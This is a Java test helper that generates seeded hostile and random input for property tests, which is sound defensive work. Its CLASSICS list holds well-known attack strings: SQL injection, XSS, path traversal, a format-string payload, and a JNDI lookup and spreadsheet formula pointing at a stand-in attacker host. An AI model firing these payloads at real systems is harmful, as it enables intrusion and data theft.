package vn.chibo;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Random and hostile input for the property tests: the classic attack strings, random text of any UTF-16 unit
 * (control characters and lone surrogates included), numbers at their edges, random files with real magic numbers.
 * Every draw comes from one seed, which {@link #toString()} names, so that a failure (whose message carries it) can be
 * replayed with {@code -Dchibo.test.seed=<seed>}.
 */
public final class Hostile {

    /** Strings an attacker or a careless paste sends: injections, formulas, controls, huge, odd Unicode. */
    public static final List<String> CLASSICS = List.of(
            "",
            " ",
            "\u0000",
            "'; DROP TABLE members.member; --",
            "' OR '1'='1",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"bấm\")",
            "${jndi:ldap://evil.example/a}",
            "%s%s%s%n",
            "../../../../etc/passwd",
            "\u202Egnp.exe",
            "\uD800",
            "Nguyễn\u0301 Thị\u0000Hương",
            "🙂🙂🙂",
            "NaN",
            "-1",
            "99999999999999999999999",
            "31/02/2026",
            "0000-00-00",
            "2026-13-45",
            "1e309",
            "x".repeat(20_000),
            "Đ".repeat(5_000),
            "\r\n\r\n",
            "{\"a\":",
            "null");

    private static final byte[] ZIP = {'P', 'K', 3, 4};
    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10};

    private final long seed;
    private final Random random;

    public Hostile(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    /** Draws from {@code -Dchibo.test.seed} when given (to replay a failure), else from a new seed. */
    public static Hostile draw() {
        Long given = Long.getLong("chibo.test.seed");
        return new Hostile(given != null ? given : new Random().nextLong());
    }

    public Random random() {
        return random;
    }

    /** A hostile string: a classic four times in ten, else random text, Latin-1 noise or digits. */
    public String string() {
        int pick = random.nextInt(10);
        if (pick < 4) {
            return oneOf(CLASSICS);
        }
        if (pick < 7) {
            return anyText(300);
        }
        if (pick < 9) {
            return textOf(0x00, 0xff, 50);
        }
        return textOf('0', '9', 25);
    }

    /** Up to {@code maxLength} UTF-16 units of any value, control characters and unpaired surrogates included. */
    public String anyText(int maxLength) {
        return textOf(0x0000, 0xffff, maxLength);
    }

    /** Up to {@code maxLength} characters drawn from {@code chars}. */
    public String textOf(String chars, int maxLength) {
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(maxLength + 1);
        for (int i = 0; i < length; i++) {
            text.append(chars.charAt(random.nextInt(chars.length())));
        }
        return text.toString();
    }

    private String textOf(int from, int to, int maxLength) {
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(maxLength + 1);
        for (int i = 0; i < length; i++) {
            text.append((char) (from + random.nextInt(to - from + 1)));
        }
        return text.toString();
    }

    /** A long, often at an edge (0, ±1, the extremes). */
    public long anyLong() {
        return switch (random.nextInt(6)) {
            case 0 -> 0;
            case 1 -> random.nextBoolean() ? 1 : -1;
            case 2 -> random.nextBoolean() ? Long.MAX_VALUE : Long.MIN_VALUE;
            default -> random.nextLong();
        };
    }

    /** Random bytes, some of them starting like a ZIP (an office document) or a PNG. */
    public byte[] bytes() {
        return switch (random.nextInt(5)) {
            case 0 -> prefixed(ZIP, 2_000);
            case 1 -> prefixed(PNG, 2_000);
            default -> randomBytes(4_000);
        };
    }

    private byte[] prefixed(byte[] head, int maxTail) {
        byte[] tail = randomBytes(maxTail);
        byte[] all = new byte[head.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(tail, 0, all, head.length, tail.length);
        return all;
    }

    private byte[] randomBytes(int maxLength) {
        byte[] bytes = new byte[random.nextInt(maxLength + 1)];
        random.nextBytes(bytes);
        return bytes;
    }

    public <T> T oneOf(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** Some of the keys (none to all), each with a value of {@code values}. */
    public Map<String, String> someOf(List<String> keys, Supplier<String> values) {
        Map<String, String> chosen = new LinkedHashMap<>();
        for (String key : keys) {
            if (random.nextBoolean()) {
                chosen.put(key, values.get());
            }
        }
        return chosen;
    }

    /** {@code count} draws of {@code draw}. */
    public <T> List<T> samples(int count, Supplier<T> draw) {
        List<T> samples = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            samples.add(draw.get());
        }
        return samples;
    }

    @Override
    public String toString() {
        return "seed " + seed + " (replay with -Dchibo.test.seed=" + seed + ")";
    }
}
